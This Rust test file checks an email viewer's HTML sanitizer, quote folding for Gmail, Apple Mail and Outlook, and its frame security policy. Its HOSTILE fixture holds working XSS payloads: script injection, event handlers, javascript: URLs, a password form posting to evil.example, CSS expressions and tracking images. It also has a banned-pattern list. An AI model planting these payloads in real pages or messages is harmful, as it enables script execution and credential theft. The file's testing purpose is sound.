//! The e-mail view against a hostile corpus and the quoting styles of the common
//! clients: what must be gone, and what must stay.

use serde_json::json;

use super::sanitize::sanitize;
use super::*;

fn clean(html: &str) -> String {
    sanitize(html, &[], false).html
}

fn assert_gone(html: &str, banned: &[&str]) {
    let lower = html.to_ascii_lowercase();
    for b in banned {
        assert!(!lower.contains(b), "`{b}` survived in:\n{html}");
    }
}

const HOSTILE: &str = r##"<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta charset="utf-8"><title>Invoice</title>
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body { display:none } @import url(https://evil.example/y.css);</style>
<script>window.__pwned = 1</script>
</head>
<body onload="window.__pwned = 2">
<p style="color: red; position: fixed; top: 0; left: 0; z-index: 99999; background-image: url(https://evil.example/t.png)">Hello Agent</p>
<div style="position:absolute;width:100%;height:100%;transform:scale(9)">cover</div>
<p style="width: expression(alert(1)); behavior: url(x.htc)">old IE</p>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror="window.__pwned = 3">
<img src="javascript:window.__pwned=4">
<a href="javascript:window.__pwned=5">click</a>
<a href=" JaVaScRiPt:alert(1)">click2</a>
<a href="java&#x09;script:alert(1)">click3</a>
<a href="data:text/html,<script>alert(1)</script>">click4</a>
<a href="vbscript:msgbox(1)">click5</a>
<a href="https://example.com/help" onclick="steal()" target="_self">Help centre</a>
<svg onload="window.__pwned=6"><script>window.__pwned=7</script><text>svg text</text></svg>
<math><mtext><script>alert(1)</script></mtext></math>
<form action="https://evil.example/login" method="post"><input name="password" type="password"><button formaction="https://evil.example/2">Log in</button></form>
<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<noscript><img src=x onerror=alert(1)></noscript>
<template><script>alert(1)</script></template>
<table background="https://evil.example/bg.png" width="600" cellpadding="4"><tr><td bgcolor="#eeeeee" onmouseover="x()"><b>Order</b> 1042</td></tr></table>
<details open ontoggle="alert(1)"><summary>More</summary>inside</details>
<video src="https://evil.example/v.mp4" autoplay></video><audio src="x" onplay="y()"></audio>
<div id="sb-quoted">not ours</div>
<!-- <script>alert(1)</script> -->
</body></html>"##;

#[test]
fn hostile_markup_is_gone_and_the_message_stays() {
    let out = clean(HOSTILE);
    assert_gone(
        &out,
        &[
            "<script",
            "</script",
            "onload",
            "onerror",
            "onclick",
            "onmouseover",
            "ontoggle",
            "onplay",
            "javascript:",
            "vbscript:",
            "data:text",
            "<form",
            "<input",
            "<button",
            "formaction",
            "<iframe",
            "srcdoc",
            "<svg",
            "<math",
            "<style",
            "<link",
            "<meta",
            "<base",
            "<object",
            "<embed",
            "<video",
            "<audio",
            "<template",
            "<noscript",
            "position",
            "z-index",
            "transform",
            "url(",
            "expression",
            "behavior",
            "@import",
            "background=",
            "evil.example",
            "<title",
            "<!--",
            "window.__pwned",
            "id=\"sb-",
        ],
    );
    for kept in [
        "Hello Agent",
        "color:red",
        "<b>Order</b> 1042",
        "bgcolor=\"#eeeeee\"",
        "cellpadding=\"4\"",
        "Help centre",
        "href=\"https://example.com/help\"",
        "target=\"_blank\"",
        "rel=\"noopener noreferrer nofollow\"",
        "id=\"m-sb-quoted\"",
        "Log in",
    ] {
        assert!(out.contains(kept), "`{kept}` is missing from:\n{out}");
    }
    // The scrambled script tag is only text now.
    assert!(!out.contains("<scr"), "{out}");
    assert!(!out.contains("target=\"_self\""), "{out}");
}

#[test]
fn images_wait_for_the_agent_and_inline_files_point_at_attachments() {
    let inline = [InlineImage {
        content_id: "<logo@example.com>".into(),
        attachment_id: "att-1".into(),
    }];
    let html = r##"<p>Logo <img src="cid:logo@example.com" alt="Logo"></p>
<p>Missing <img src="cid:nothing-here" alt="gone"></p>
<p>Tracker <img src="https://track.example/p.gif?u=1&amp;m=2" width="1" height="1"></p>
<p>Photo <img src="http://photos.example/cat.jpg" alt="cat"></p>
<p>Dot <img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"></p>
<p>Vector <img src="data:image/svg+xml;base64,PHN2Zz4=" alt="svg"></p>"##;
    let blocked = sanitize(html, &inline, false);
    assert_eq!(blocked.remote_images, 2);
    assert_eq!(blocked.inline, ["att-1"]);
    assert!(
        blocked.html.contains(r##"data-cid="att-1""##),
        "{}",
        blocked.html
    );
    assert!(
        blocked
            .html
            .contains(r##"data-remote-src="https://track.example/p.gif?u=1&amp;m=2""##),
        "{}",
        blocked.html
    );
    assert!(
        blocked
            .html
            .contains(r##"data-remote-src="http://photos.example/cat.jpg""##)
    );
    assert!(blocked.html.contains("data:image/png;base64"));
    assert_gone(
        &blocked.html,
        &[" src=\"cid:", " src=\"http", "svg+xml", "nothing-here"],
    );
    assert!(
        blocked.html.contains(r##"alt="gone""##),
        "the picture's name stays"
    );
    let loaded = sanitize(html, &inline, true);
    assert_eq!(loaded.remote_images, 2);
    assert!(
        loaded
            .html
            .contains(r##"src="http://photos.example/cat.jpg""##)
    );
    assert!(!loaded.html.contains("data-remote-src"));
    assert!(loaded.html.contains(r##"data-cid="att-1""##));
}

fn split(html: &str) -> (String, String) {
    let (visible, quoted) = quotes::split_html(&clean(html));
    (
        visible,
        quoted.unwrap_or_else(|| panic!("no quote found in {html}")),
    )
}

#[test]
fn gmail_quotes_fold_with_every_level() {
    let (visible, quoted) = split(
        r##"<div dir="ltr">Thanks, that worked!<div><br></div>-- <br><div dir="ltr" class="gmail_signature">Ann Example<br>+1 555 0100</div></div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">On Mon, 1 Jan 2024 at 10:00, Support &lt;<a href="mailto:help@shop.example">help@shop.example</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Did that help?<br><div class="gmail_quote"><div class="gmail_attr">On Sun, Ann wrote:</div><blockquote class="gmail_quote">My order never came</blockquote></div></blockquote></div>"##,
    );
    assert!(visible.contains("Thanks, that worked!"));
    assert_gone(
        &visible,
        &[
            "did that help",
            "my order never came",
            "wrote:",
            "ann example",
        ],
    );
    for q in [
        "-- ",
        "Ann Example",
        "wrote:",
        "Did that help?",
        "My order never came",
    ] {
        assert!(
            quoted.contains(q),
            "`{q}` not in the quoted part:\n{quoted}"
        );
    }
    assert_eq!(
        visible.matches("<div").count(),
        visible.matches("</div>").count(),
        "{visible}"
    );
    assert_eq!(
        quoted.matches("<div").count(),
        quoted.matches("</div>").count(),
        "{quoted}"
    );
}

#[test]
fn apple_mail_cites_fold_with_their_attribution() {
    let (visible, quoted) = split(
        r##"<html><body><div>Yes please, go ahead.<br><div><br><blockquote type="cite"><div>On 1 Jan 2024, at 10:00, Support &lt;help@shop.example&gt; wrote:</div><br><div>Shall we refund it?</div><blockquote type="cite">Where is my parcel?</blockquote></blockquote></div></div></body></html>"##,
    );
    assert!(visible.contains("Yes please, go ahead."));
    assert_gone(&visible, &["shall we", "parcel", "wrote:"]);
    assert!(quoted.contains("Shall we refund it?") && quoted.contains("Where is my parcel?"));
    // The attribution before the quote goes with it.
    let (visible, quoted) = split(
        r##"<div>Sure.<br><br><div>On Jan 1, 2024, at 10:00, Ann &lt;ann@example.com&gt; wrote:</div><br><blockquote type="cite"><div>Question?</div></blockquote></div>"##,
    );
    assert!(
        visible.contains("Sure.") && !visible.contains("wrote:"),
        "{visible}"
    );
    assert!(quoted.starts_with("<div><div>On Jan 1"), "{quoted}");
    // Bare attribution text with a link in it, as Apple Mail writes it.
    let (visible, quoted) = split(
        r##"Fine.<br><br>On 2 Jan 2024, at 11:00, Ann &lt;<a href="mailto:ann@example.com">ann@example.com</a>&gt; wrote:<br><br><blockquote type="cite">Old</blockquote>"##,
    );
    assert_eq!(
        visible.trim_end_matches("<br>").trim(),
        "Fine.",
        "{visible}"
    );
    assert!(quoted.starts_with("On 2 Jan"), "{quoted}");
}

#[test]
fn inline_answers_between_quotes_stay_whole() {
    let html = r##"<blockquote type="cite">Which size?</blockquote><div>Medium.</div><blockquote type="cite">Which colour?</blockquote><div>Blue.</div>"##;
    let (visible, quoted) = quotes::split_html(&clean(html));
    assert!(quoted.is_none(), "{visible}");
    assert!(visible.contains("Medium.") && visible.contains("Blue."));
}

#[test]
fn outlook_replies_fold_at_their_header() {
    let (visible, quoted) = split(
        r##"<div dir="ltr">Hi, all sorted now.</div><div id="appendonsend"></div><hr style="display:inline-block;width:98%" tabindex="-1"><div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" color="#000000"><b>From:</b> Support &lt;help@shop.example&gt;<br><b>Sent:</b> Monday, January 1, 2024 10:00 AM<br><b>To:</b> Ann<br><b>Subject:</b> Re: Order 1042</font><div>&nbsp;</div></div><div>Your refund is on its way.</div>"##,
    );
    assert!(visible.contains("all sorted now"));
    assert_gone(&visible, &["from:", "refund", "<hr"]);
    assert!(
        quoted.contains("Subject:</b> Re: Order 1042")
            && quoted.contains("Your refund is on its way.")
    );
    // Outlook on the desktop: the header is a bordered div of Word paragraphs.
    let (visible, quoted) = split(
        r##"<div class="WordSection1"><p class="MsoNormal">Fine by me.<o:p></o:p></p><p class="MsoNormal">&nbsp;</p><div><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in"><p class="MsoNormal"><b>From:</b> Support &lt;help@shop.example&gt;<br><b>Sent:</b> Monday, January 1, 2024 10:00 AM<br><b>To:</b> Ann<br><b>Subject:</b> RE: Order<o:p></o:p></p></div></div><p class="MsoNormal">Earlier text</p></div>"##,
    );
    assert!(visible.contains("Fine by me."));
    assert_gone(&visible, &["from:", "earlier text"]);
    assert!(quoted.contains("Earlier text"));
    let (visible, quoted) = split(
        "<p>See below.</p><p>-----Original Message-----<br>From: Ann<br>Sent: Monday<br>Subject: Hi</p><p>Old body</p>",
    );
    assert_eq!(visible, "<p>See below.</p>");
    assert!(quoted.contains("Old body"));
}

#[test]
fn html_signatures_fold() {
    let (visible, quoted) = split("<div>Thanks</div><div>-- </div><div>Ann<br>Example Inc.</div>");
    assert_eq!(visible, "<div>Thanks</div><div></div>");
    assert!(quoted.starts_with("<div>-- </div>") && quoted.contains("Example Inc."));
    let (visible, quoted) = split(
        r##"<p>Regards</p><pre class="moz-signature" cols="72">-- 
Ann</pre>"##,
    );
    assert_eq!(visible, "<p>Regards</p>");
    assert!(quoted.contains("moz-signature"));
}

#[test]
fn a_message_that_is_all_quote_stays_whole() {
    let html =
        r##"<div class="gmail_quote">---------- Forwarded message ---------<br>The invoice</div>"##;
    let (visible, quoted) = quotes::split_html(&clean(html));
    assert!(quoted.is_none());
    assert!(visible.contains("The invoice"));
}

#[test]
fn text_quotes_of_each_client_fold() {
    let gmail = "Thanks, that worked!\n\nOn Mon, 1 Jan 2024 at 10:00, Support <help@shop.example>\nwrote:\n\n> Did that help?\n>\n> > My order never came\n";
    let (text, quoted) = quotes::split_text(gmail);
    assert_eq!(text, "Thanks, that worked!");
    let quoted = quoted.unwrap();
    assert!(quoted.starts_with("On Mon, 1 Jan 2024") && quoted.contains("> > My order never came"));

    let german = "Passt.\n\nAm 01.01.2024 um 10:00 schrieb Support <help@shop.example>:\n> Frage\n";
    assert_eq!(quotes::split_text(german).0, "Passt.");

    let outlook = "All sorted.\r\n\r\n________________________________\r\nFrom: Support <help@shop.example>\r\nSent: Monday, January 1, 2024 10:00 AM\r\nTo: Ann\r\nSubject: Re: Order 1042\r\n\r\nYour refund is on its way.\r\n";
    let (text, quoted) = quotes::split_text(outlook);
    assert_eq!(text, "All sorted.");
    assert!(quoted.unwrap().contains("Your refund is on its way."));

    let headers_only = "Ok.\n\nFrom: Support\nSent: Monday\nTo: Ann\nSubject: Hi\n\nOld";
    assert_eq!(quotes::split_text(headers_only).0, "Ok.");

    let original = "Noted.\n\n-----Original Message-----\nFrom: Ann\nOld text";
    assert_eq!(quotes::split_text(original).0, "Noted.");

    let signature = "Thanks\n-- \nAnn Example\nExample Inc.";
    let (text, quoted) = quotes::split_text(signature);
    assert_eq!(text, "Thanks");
    assert_eq!(quoted.as_deref(), Some("-- \nAnn Example\nExample Inc."));

    let bare_quote = "Yes.\n\n> Shall we?\n";
    assert_eq!(quotes::split_text(bare_quote).0, "Yes.");
}

#[test]
fn text_with_inline_answers_or_only_quotes_stays_whole() {
    let inline = "On Mon, Support wrote:\n> Which size?\nMedium.\n> Which colour?\nBlue.\n";
    assert_eq!(quotes::split_text(inline), (inline.to_string(), None));
    let interleaved = "Hi\n\n> Which size?\nMedium.\n> Which colour?\nBlue.\n";
    assert_eq!(quotes::split_text(interleaved).1, None);
    let bottom_post = "> Which size?\n\nMedium, please.";
    assert_eq!(quotes::split_text(bottom_post).1, None);
    let plain = "Just text, with a > sign and a date: Monday.";
    assert_eq!(quotes::split_text(plain).1, None);
}

#[test]
fn a_megabyte_of_hostile_html_is_handled_whole() {
    let chunk = r##"<div style="position:fixed;color:#333"><p>Line of the newsletter <img src="https://cdn.example/i.png" onerror="x()"><script>window.__pwned=1</script><a href="javascript:x()">x</a></p></div>"##;
    let mut html = String::from("<div>Short answer.</div>");
    while html.len() < 1_000_000 {
        html.push_str(chunk);
    }
    html.push_str(r##"<div class="gmail_quote">quoted tail</div>"##);
    let view = render(
        &EmailSource {
            metadata: &json!({"html_body": html}),
            body: "Short answer.",
            sender: None,
            inline: &[],
        },
        false,
    );
    let visible = view.html.unwrap();
    assert!(visible.contains("Short answer.") && visible.contains("Line of the newsletter"));
    assert_gone(&visible, &["<script", "onerror", "javascript:", "position"]);
    assert!(view.quoted_html.unwrap().contains("quoted tail"));
    assert!(view.remote_images > 3000, "{}", view.remote_images);

    // Deep nesting, cited quotes that are never the tail, and Outlook-looking
    // blocks that are not: all within the budget.
    let mut deep = String::from("Top");
    for _ in 0..5000 {
        deep.push_str("<div><blockquote type=\"cite\">q</blockquote>answer ");
    }
    let view = render(
        &EmailSource {
            metadata: &json!({"html_body": deep}),
            body: "",
            sender: None,
            inline: &[],
        },
        false,
    );
    assert!(view.html.unwrap().starts_with("Top"));
}

#[test]
fn the_view_carries_the_headers_and_the_connectors_notes() {
    let metadata = json!({
        "subject": "Re: Order 1042",
        "to": [{"name": "Support", "address": "help@shop.example"}, "billing@shop.example"],
        "cc": "boss@example.com, team@example.com",
        "automatic": "auto_reply",
        "problem": "the HTML part was cut at 1 MB",
        "html_body": "<script>alert(1)</script><style>p{}</style>",
    });
    let view = render(
        &EmailSource {
            metadata: &metadata,
            body: "I am out of office.\n-- \nAnn",
            sender: Some("ann@example.com"),
            inline: &[],
        },
        false,
    );
    assert_eq!(view.subject.as_deref(), Some("Re: Order 1042"));
    assert_eq!(view.from.as_deref(), Some("ann@example.com"));
    assert_eq!(
        view.to,
        ["Support <help@shop.example>", "billing@shop.example"]
    );
    assert_eq!(view.cc, ["boss@example.com", "team@example.com"]);
    assert_eq!(view.automatic.as_deref(), Some("auto_reply"));
    assert_eq!(
        view.problem.as_deref(),
        Some("the HTML part was cut at 1 MB")
    );
    assert_eq!(
        view.html, None,
        "HTML with nothing left to show falls back to the text"
    );
    assert_eq!(view.text, "I am out of office.");
    assert_eq!(view.quoted_text.as_deref(), Some("-- \nAnn"));
    let doc = frame_document(&view);
    assert!(doc.contains("<div class=\"sb-text\">I am out of office.</div>"));
    assert!(doc.contains("<div id=\"sb-quoted\" hidden>"));

    let from_header = render(
        &EmailSource {
            metadata: &json!({"from": {"name": "Ann E.", "address": "ann@example.com"}, "html_body": "<p>Hi &lt;b&gt;</p>"}),
            body: "Hi <b>",
            sender: Some("other@example.com"),
            inline: &[],
        },
        false,
    );
    assert_eq!(
        from_header.from.as_deref(),
        Some("Ann E. <ann@example.com>")
    );
    let doc = frame_document(&from_header);
    assert!(doc.contains("<p>Hi &lt;b&gt;</p>") && !doc.contains("id=\"sb-quoted\""));
}

#[test]
fn the_frame_policy_runs_nothing_and_loads_remote_images_only_when_asked() {
    for remote in [false, true] {
        let p = frame_policy(remote);
        assert!(p.contains("script-src 'none'") && p.contains("default-src 'none'"));
        assert!(p.contains("frame-ancestors 'self'") && p.contains("form-action 'none'"));
        assert!(p.contains("sandbox") && !p.contains("allow-scripts"));
        assert_eq!(p.contains("https:"), remote);
    }
}
